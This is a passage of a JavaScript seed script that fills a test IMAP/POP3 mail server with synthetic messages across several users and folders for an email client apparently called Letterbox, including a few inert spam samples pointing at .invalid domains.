      const html = `<!DOCTYPE html><html><body style="font-family:-apple-system,Segoe UI,sans-serif;font-size:14px"><p><b>${escapeHtml(subject)}</b></p><p><a href="https://codehub.example/letterbox/web/pull/${n}">View it on CodeHub</a></p><p style="color:#6b7280;font-size:12px">You are receiving this because you are subscribed to this repository.</p></body></html>\n`;
      return {
        from: S.codehub,
        to: [ALICE],
        subject,
        date,
        tz: 0,
        messageId: `letterbox/web/pull/${n}/${r.hex(8)}@codehub.example`,
        headers: ["List-Id: letterbox/web <web.letterbox.codehub.example>", "Precedence: list"],
        body: alternative(text, html),
      };
    }
    case "personal": {
      const from = r.pick(friends);
      const subject = r.pick([
        "Dinner next week?",
        "Photos from the weekend",
        "Happy birthday!",
        "Book recommendation",
        "Moving boxes",
        "Climbing on Sunday?",
        "The recipe",
        "Back in town",
      ]);
      return {
        from,
        to: [ALICE],
        subject,
        date,
        tz: from.tz,
        messageId: mid(from),
        body: textPart(
          letter(ALICE, from, paragraphs(personalSentences, r.int(1, 3)), {
            closing: r.pick(["Love,", "Hugs,", "x", "Cheers,"]),
          }),
        ),
      };
    }
    case "billing": {
      const n = r.int(10000, 99999);
      const amount = (r.int(500, 25000) / 100).toFixed(2);
      const text = `Order ${n}\n\nThank you for your purchase.\n\nTotal: ${amount} EUR\nPaid with: card ending in ${r.int(1000, 9999)}\n\nThe Corner Bookshop\n`;
      const withPdf = r.chance(0.5);
      const body = withPdf
        ? multipart("mixed", [
            textPart(text),
            filePart(pdf(`Invoice ${n}`, [`Total: ${amount} EUR`, "Thank you for shopping with us."]), {
              type: "application/pdf",
              filename: `invoice-${n}.pdf`,
            }),
          ])
        : textPart(text);
      return {
        from: S.bookshop,
        to: [ALICE],
        subject: `Your order #${n} has been confirmed`,
        date,
        tz: 0,
        messageId: mid(S.bookshop),
        body,
      };
    }
    case "newsletter": {
      const n = r.int(100, 300);
      const headline = r.pick([
        "The quiet return of RSS",
        "Ten tiny tools we love",
        "Why mail still matters",
        "The best walks in the city",
        "A week without notifications",
      ]);
      const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><style>h1{font-family:Georgia,serif}.item{border-bottom:1px solid #eee;padding:8px 0}</style></head><body><h1>Paperboy Weekly #${n}</h1>${paragraphs(
        sentences,
        3,
      )
        .map(
          (p) =>
            `<div class="item"><p>${escapeHtml(p)}</p><a href="https://paperboy.example/${n}/${r.hex(6)}">Read more</a></div>`,
        )
        .join("")}<p><a href="https://paperboy.example/unsubscribe">Unsubscribe</a></p></body></html>\n`;
      return {
        from: S.paperboy,
        to: [ALICE],
        subject: `Paperboy Weekly #${n}: ${headline}`,
        date,
        tz: 0,
        messageId: mid(S.paperboy),
        headers: ["List-Unsubscribe: <https://paperboy.example/unsubscribe>"],
        body: alternative(
          `Paperboy Weekly #${n}: ${headline}\n\nRead online: https://paperboy.example/${n}\n`,
          html,
        ),
      };
    }
    case "calendar": {
      const event = r.pick([
        "Team sync",
        "1:1 with Maria",
        "Design review",
        "Sprint planning",
        "Lunch & learn",
      ]);
      const when = `${r.pick(days)} ${r.int(9, 16)}:00`;
      return {
        from: S.calendar,
        to: [ALICE],
        subject: `${r.pick(["Invitation", "Updated invitation", "Reminder"])}: ${event} @ ${when}`,
        date,
        tz: 0,
        messageId: mid(S.calendar),
        body: textPart(
          `${event}\nWhen: ${when} (60 minutes)\nWhere: Room Ada / video call\n\nGoing? Yes - Maybe - No\n`,
        ),
      };
    }
    default: {
      const variants = [
        [
          P.juergen,
          "Überweisung bestätigt",
          "Hallo Alice,\n\ndie Überweisung ist angekommen. Vielen Dank und schöne Grüße!\n\nJürgen\n",
        ],
        [
          P.zoe,
          "Réunion de lundi",
          "Bonjour Alice,\n\nla réunion de lundi est déplacée à 14 h. Ça te va ?\n\nZoë\n",
        ],
        [
          P.jose,
          "¿Nos vemos el jueves?",
          "Hola Alice,\n\n¿te viene bien el jueves por la tarde? Llevo los documentos.\n\nJosé\n",
        ],
        [P.lina, "样品已寄出", "Alice 你好，\n\n样品已经寄出，预计下周到达。\n\n李娜\n"],
        [
          P.soren,
          "Smørrebrød på fredag",
          "Hej Alice,\n\nskal vi spise smørrebrød på fredag? Jeg giver!\n\nSøren\n",
        ],
        [
          P.kenji,
          "来週の打ち合わせ",
          "アリスさん\n\n来週の打ち合わせは火曜日の10時でお願いします。\n\n渡辺\n",
        ],
      ];
      const [from, subject, text] = r.pick(variants);
      return {
        from,
        to: [ALICE],
        subject,
        date,
        tz: from.tz,
        messageId: mid(from),
        encoding: r.chance(0.5) ? "Q" : "B",
        body: textPart(text, { cte: r.chance(0.5) ? "base64" : "quoted-printable" }),
      };
    }
  }
}

function seedFiller() {
  for (let i = 0; i < INBOX_FILLER; i++) {
    // Denser in recent weeks, thinning out over ~6 months.
    const age = Math.floor(180 * DAY * Math.pow(r(), 1.7)) + 6 * HOUR;
    const date = NOW - age;
    const m = fillerMessage(i, date);
    let flags = age < 3 * DAY ? (r.chance(0.6) ? "" : "S") : r.chance(0.05) ? "" : "S";
    if (r.chance(0.06)) flags += "F";
    if (flags.includes("S") && r.chance(0.05)) flags += "R";
    add(ALICE, "INBOX", flags, m);
  }
}

// --- alice: other folders ----------------------------------------------------------------------

function simple(owner, folder, flags, from, to, subject, ago, text, extra = {}) {
  add(owner, folder, flags, {
    from,
    to,
    subject,
    date: NOW - ago,
    tz: from.tz,
    messageId: messageId(from),
    body: textPart(text),
    ...extra,
  });
}

function seedFolders() {
  // Sent (besides thread replies)
  simple(
    ALICE,
    "Sent",
    "S",
    ALICE,
    [P.maria],
    "Slides for Monday",
    2 * DAY + 4 * HOUR,
    letter(P.maria, ALICE, ["here are my slides for Monday. Feel free to cut whatever does not fit."]),
  );
  simple(
    ALICE,
    "Sent",
    "S",
    ALICE,
    [S.nimbus],
    "Invoice question",
    16 * DAY,
    letter({ name: "Billing Team" }, ALICE, [
      "the last invoice lists two projects that we deleted in August. Could you check?",
    ]),
  );
  simple(
    ALICE,
    "Sent",
    "S",
    ALICE,
    [P.fatima, P.amelia],
    "Saturday plans",
    6 * DAY,
    letter(P.fatima, ALICE, ["Shall we go to the market first and then for a walk by the river?"]),
  );
  simple(
    ALICE,
    "Sent",
    "S",
    ALICE,
    [BOB],
    "Re: Keys for the office",
    11 * DAY,
    letter(BOB, ALICE, ["I left the spare keys with reception."]),
  );
  add(ALICE, "Sent", "S", {
    from: ALICE,
    to: [P.tom],
    subject: "Photos from the offsite",
    date: NOW - 30 * DAY,
    tz: ALICE.tz,
    messageId: messageId(ALICE),
    body: multipart("mixed", [
      textPart(letter(P.tom, ALICE, ["two photos from the offsite, as promised."])),
      filePart(solidPng(64, 64, [250, 204, 21]), { type: "image/png", filename: "sunset.png" }),
    ]),
  });

  // Drafts (\Draft)
  add(ALICE, "Drafts", "DS", {
    from: ALICE,
    to: [P.priya],
    subject: "Notes for the beta retro",
    date: NOW - 1 * DAY,
    tz: ALICE.tz,
    messageId: messageId(ALICE, "draft"),
    body: textPart("What went well:\n- \n\nWhat to change:\n- \n"),
    received: false,
  });
  add(ALICE, "Drafts", "DS", {
    from: ALICE,
    to: [],
    subject: "",
    date: NOW - 3 * DAY,
    tz: ALICE.tz,
    messageId: messageId(ALICE, "draft"),
    body: textPart("Half-written thought about the roadmap...\n"),
    received: false,
  });
  add(ALICE, "Drafts", "DS", {
    from: ALICE,
    to: [P.zoe],
    subject: "Re: Café au lait ☕ on Friday?",
    date: NOW - 18 * HOUR,
    tz: ALICE.tz,
    messageId: messageId(ALICE, "draft"),
    body: alternative("Sounds lovely, see you at 10!\n", htmlLetter("Sounds lovely, see you at 10!")),
    received: false,
  });

  // Archive: older work mail
  for (let i = 0; i < 24; i++) {
    const from = r.pick(colleagues);
    const topic = r.pick(topics);
    simple(
      ALICE,
      "Archive",
      "S",
      from,
      [ALICE],
      r.pick([`Meeting notes: ${topic}`, `Wrap-up: ${topic}`, `Decision on ${topic}`]),
      r.int(200, 700) * DAY,
      letter(ALICE, from, paragraphs(sentences, r.int(1, 3))),
    );
  }

  // Junk
  const spam = [
    [
      "Congratulations!!! You have WON a prize",
      "Dear winner,\n\nclick here to claim your prize: http://prize.invalid/claim\n",
    ],
    [
      "Account verification required",
      "Your account will be suspended. Verify now: http://bank-secure.invalid/login\n",
    ],
    ["Cheap watches, best prices", "Best watches at http://watches.invalid\n"],
    ["Re: your invoice", "Please open the attached invoice.\n"],
    ["Urgent business proposal", "I am a prince and need your help moving funds.\n"],
  ];
  spam.forEach(([subject, text], i) => {
    const from = {
      name: r.pick(["Prize Center", "Security Dept", "Sales", "Accounting", "Prince"]),
      email: `x${i}@spam${i}.invalid`,
      tz: 0,
    };
    const html = `<html><body><p style="font-size:20px;color:red">${escapeHtml(subject)}</p><p><a href="http://spam${i}.invalid/">CLICK HERE</a></p><img src="http://spam${i}.invalid/pixel.gif" width="1" height="1"></body></html>\n`;
    add(ALICE, "Junk", i < 2 ? "" : "S", {
      from,
      to: [ALICE],
      subject,
      date: NOW - r.int(1, 40) * DAY,
      tz: 0,
      messageId: messageId(from),
      body: alternative(text, html),
      headers: ["X-Spam-Flag: YES", "X-Spam-Score: 9.8"],
    });
  });

  // Trash
  for (let i = 0; i < 5; i++) {
    const from = r.pick([S.paperboy, S.calendar, S.codehub, P.tom]);
    simple(
      ALICE,
      "Trash",
      "S",
      from,
      [ALICE],
      r.pick([
        "Old newsletter",
        "Cancelled: Team sync",
        "Your weekly digest",
        "Lunch?",
        "[letterbox/web] Closed #42",
      ]),
      r.int(2, 60) * DAY,
      "This message was deleted.\n",
    );
  }

  // Projects, Projects/Letterbox
  for (const [subject, ago] of [
    ["Project kickoff", 90],
    ["Budget for Q1", 70],
    ["Risks and mitigations", 50],
    ["Stakeholder list", 45],
    ["Status report week 40", 30],
    ["Status report week 44", 10],
  ]) {
    const from = r.pick(colleagues);
    simple(
      ALICE,
      "Projects",
      "S",
      from,
      [ALICE],
      subject,
      ago * DAY,
      letter(ALICE, from, paragraphs(sentences, 2)),
    );
  }
  for (const [subject, ago, flags] of [
    ["Design review notes", 40, "S"],
    ["Roadmap v2", 33, "FS"],
    ["IMAP connection pooling", 28, "S"],
    ["Sanitizer test cases", 21, "S"],
    ["Performance budget: 100k messages", 15, "FS"],
    ["Keyboard shortcuts proposal", 12, "S"],
    ["Accessibility findings", 8, "S"],
    ["Release checklist", 5, "S"],
    ["Beta feedback summary", 2, ""],
    ["Icon set options", 1, ""],
  ]) {
    const from = r.pick([P.priya, P.jose, BOB, CAROL, P.maria]);
    const text = letter(ALICE, from, paragraphs(sentences, r.int(2, 3)));
    add(ALICE, "Projects/Letterbox", flags, {
      from,
      to: [ALICE],
      subject,
      date: NOW - ago * DAY,
      tz: from.tz,
      messageId: messageId(from),
      body: r.chance(0.5) ? alternative(text, htmlLetter(text, { accent: "#16a34a" })) : textPart(text),
    });
  }

  // Receipts
  for (let i = 0; i < 12; i++) {
    const month = new Date(NOW - (i + 1) * 30 * DAY).toLocaleString("en-GB", {
      month: "long",
      year: "numeric",
      timeZone: "UTC",
    });
    const amount = (r.int(900, 4900) / 100).toFixed(2);
    const sender = i % 3 === 0 ? S.rail : S.nimbus;
    const subject =
      sender === S.rail
        ? `Your ticket and receipt (${amount} EUR)`
        : `Your Nimbus Cloud invoice for ${month}`;
    add(ALICE, "Receipts", "S", {
      from: sender,
      to: [ALICE],
      subject,
      date: NOW - (i + 1) * 30 * DAY,
      tz: sender.tz,
      messageId: messageId(sender),
      body: multipart("mixed", [
        textPart(`Thank you. Amount: ${amount} EUR.\nThe receipt is attached as a PDF.\n`),
        filePart(pdf(subject, [`Amount: ${amount} EUR`, `Customer: Alice Example`]), {
          type: "application/pdf",
          filename: `receipt-${i + 1}.pdf`,
        }),
      ]),
    });
  }

  // Reisen, Reisen/Köln (German, non-ASCII folder name)
  simple(
    ALICE,
    "Reisen",
    "S",
    S.rail,
    [ALICE],
    "Ihre Reiseverbindung nach Köln",
    20 * DAY,
    "Hinfahrt: Fr 08:12 ab Hamburg Hbf, an Köln Hbf 12:14\nRückfahrt: So 16:46 ab Köln Hbf\n\nGute Reise!\n",
  );
  simple(
    ALICE,
    "Reisen",
    "S",
    P.juergen,
    [ALICE],
    "Packliste",
    18 * DAY,
    "Regenschirm, Wanderschuhe, Kölsch-Gläser (zum Mitbringen).\n",
  );
  simple(
    ALICE,
    "Reisen/Köln",
    "S",
    { name: "Hotel am Dom", email: "reservierung@hotel-am-dom.example", tz: 60 },
    [ALICE],
    "Buchungsbestätigung Hotel am Dom",
    19 * DAY,
    "Sehr geehrte Frau Example,\n\nwir bestätigen Ihre Buchung vom 14. bis 16. für zwei Nächte im Doppelzimmer.\nFrühstück ist inklusive.\n\nMit freundlichen Grüßen\nHotel am Dom\n",
  );
  simple(
    ALICE,
    "Reisen/Köln",
    "S",
    P.juergen,
    [ALICE],
    "Domführung am Samstag",
    17 * DAY,
    "Hallo Alice,\n\ndie Domführung beginnt um 11 Uhr am Hauptportal. Treffpunkt fünf Minuten vorher.\n\nGruß, Jürgen\n",
  );
  simple(
    ALICE,
    "Reisen/Köln",
    "FS",
    P.juergen,
    [ALICE],
    "Restauranttipps in der Altstadt",
    16 * DAY,
    "Früh am Dom, Gaffel am Dom, und für Süßes: Café Reichard.\n",
  );
}

// --- bob and carol -----------------------------------------------------------------------------

function seedOthers() {
  simple(
    BOB,
    "INBOX",
    "S",
    ALICE,
    [BOB],
    "Keys for the office",
    11 * DAY + 3 * HOUR,
    letter(BOB, ALICE, ["do you know where the spare keys for the office are?"]),
  );
  simple(
    BOB,
    "INBOX",
    "S",
    P.priya,
    [BOB, ALICE],
    "Planning the Letterbox beta",
    20 * DAY,
    letter(BOB, P.priya, ["I put together a first plan for the beta. Thoughts?"]),
  );
  simple(BOB, "INBOX", "", ALICE, [BOB], "Lunch today?", 3 * HOUR, letter(BOB, ALICE, ["Noodles at 12:30?"]));
  simple(
    BOB,
    "INBOX",
    "FS",
    P.tom,
    [BOB],
    "Server room access",
    4 * DAY,
    letter(BOB, P.tom, ["your badge now opens the server room too."]),
  );
  simple(
    BOB,
    "INBOX",
    "S",
    S.codehub,
    [BOB],
    "[letterbox/web] Build failed on main (#512)",
    2 * DAY,
    "Build failed on main (#512)\n\nhttps://codehub.example/letterbox/web/actions/512\n",
  );
  simple(
    BOB,
    "INBOX",
    "",
    CAROL,
    [BOB],
    "Mockups for the reader",
    1 * DAY,
    letter(BOB, CAROL, ["the mockups for the reader view are in the design folder."]),
  );
  simple(
    BOB,
    "Sent",
    "S",
    BOB,
    [ALICE],
    "Re: Keys for the office",
    11 * DAY,
    letter(ALICE, BOB, ["Reception has them."]),
  );
  simple(
    BOB,
    "Sent",
    "S",
    BOB,
    [P.priya],
    "Tester invitations sent",
    17 * DAY,
    letter(P.priya, BOB, ["All twenty invitations are out."]),
  );

  simple(
    CAROL,
    "INBOX",
    "S",
    ALICE,
    [CAROL],
    "Welcome aboard!",
    60 * DAY,
    letter(CAROL, ALICE, ["welcome to the team! Let me know if you need anything."]),
  );
  simple(
    CAROL,
    "INBOX",
    "S",
    P.zoe,
    [CAROL],
    "Colour palette",
    9 * DAY,
    letter(CAROL, P.zoe, ["I refined the palette, the blue is a bit warmer now."]),
  );
  simple(
    CAROL,
    "INBOX",
    "",
    BOB,
    [CAROL],
    "Re: Mockups for the reader",
    20 * HOUR,
    letter(CAROL, BOB, ["Looks great, one question about the toolbar."]),
  );
  simple(
    CAROL,
    "INBOX",
    "FS",
    S.calendar,
    [CAROL],
    "Invitation: Design review @ Thursday 14:00",
    5 * DAY,
    "Design review\nWhen: Thursday 14:00\n",
  );
  simple(
    CAROL,
    "INBOX",
    "S",
    P.lina,
    [CAROL],
    "样品已寄出",
    12 * DAY,
    "Carol 你好，\n\n样品已经寄出。\n\n李娜\n",
  );
  simple(
    CAROL,
    "Sent",
    "S",
    CAROL,
    [BOB],
    "Mockups for the reader",
    1 * DAY + HOUR,
    letter(BOB, CAROL, ["the mockups are ready."]),
  );
  add(CAROL, "Drafts", "DS", {
    from: CAROL,
    to: [P.zoe],
    subject: "Re: Colour palette",
    date: NOW - 2 * DAY,
    tz: CAROL.tz,
    messageId: messageId(CAROL, "draft"),
    body: textPart("Love it. Can we try\n"),
    received: false,
  });
}

// --- dave: a mailbox at an "old provider", reached over POP3 only --------------------------------

function seedDave() {
  const mail = [
    [P.tom, "Your old mailbox is still here", 30 * DAY, "Hi Dave,\n\nthis is the mailbox at the old provider. It only speaks POP3.\n"],
    [S.bank, "Statement for November", 6 * DAY, "Your statement for November is ready.\n"],
    [P.amelia, "Photos from the hike", 3 * DAY, "Dave,\n\nthe photos are on the shared drive.\n\nAmelia\n"],
    [S.bookshop, "Your order has shipped", 2 * DAY, "Order 4711 left our warehouse today.\n"],
    [P.fatima, "Dinner on Sunday?", 5 * HOUR, "Are you free on Sunday evening?\n\nFatima\n"],
  ];
  for (const [from, subject, ago, text] of mail) simple(DAVE, "INBOX", "", from, [DAVE], subject, ago, text);
}

// --- write -------------------------------------------------------------------------------------

seedKnown();
seedThreads();
seedFiller();
seedFolders();
seedOthers();
seedDave();

const t0 = performance.now();
const users = [ALICE, BOB, CAROL, DAVE];
const manifest = { anchor: new Date(NOW).toISOString(), users: {}, known };
const SPECIAL = ["INBOX", "Drafts", "Sent", "Archive", "Junk", "Trash"];

for (const user of users) {
  const login = user.email;
  const mine = out.filter((m) => m.user === user);
  const folders = [...new Set([...SPECIAL, ...mine.map((m) => m.folder)])];
  if (folders.includes("Reisen/Köln") && !folders.includes("Reisen")) folders.push("Reisen");
  const existing = listMailboxes(env, login);
  const dirs = {};
  for (const folder of folders) {
    dirs[folder] = ensureMailbox(env, login, folder, existing);
    // Idempotence: the folders we seed start empty.
    doveadm(env, ["expunge", "-u", login, "mailbox", folder, "all"], { allowFail: true });
  }
  // Oldest first: Dovecot hands out UIDs in the order of the names' timestamps, so UID order is date order.
  mine.sort((a, b) => a.date - b.date);
  for (const m of mine) writeMaildirMessage(env, dirs[m.folder], m.buffer, m.date, m.flags);
  manifest.users[login] = {};
  for (const folder of folders) {
    doveadm(env, ["force-resync", "-u", login, folder]);
    doveadm(env, ["index", "-u", login, folder]);
    const status = doveadm(env, ["-f", "flow", "mailbox", "status", "-u", login, "messages unseen", folder]);
    const messages = Number(/messages=(\d+)/.exec(status)?.[1]);
    const unseen = Number(/unseen=(\d+)/.exec(status)?.[1]);
    const expected = mine.filter((m) => m.folder === folder).length;
    if (messages !== expected)
      throw new Error(`${login} ${folder}: Dovecot counts ${messages} messages, seeded ${expected}`);
    manifest.users[login][folder] = { messages, unseen };
  }
}

const manifestPath = path.join(env.state, "seed-manifest.json");
fs.writeFileSync(manifestPath, JSON.stringify(manifest, null, 2) + "\n");
console.log(
  `Seeded ${out.length} messages in ${((performance.now() - t0) / 1000).toFixed(1)} s (dates up to ${manifest.anchor}):`,
);
for (const [login, folders] of Object.entries(manifest.users)) {
  console.log(`  ${login}`);
  for (const [folder, s] of Object.entries(folders))
    console.log(`    ${folder.padEnd(22)} ${String(s.messages).padStart(4)} messages, ${s.unseen} unread`);
}
console.log(`Known subjects: ${known.map((k) => JSON.stringify(k.subject)).join(", ")}`);
console.log(`Manifest: ${manifestPath}`);
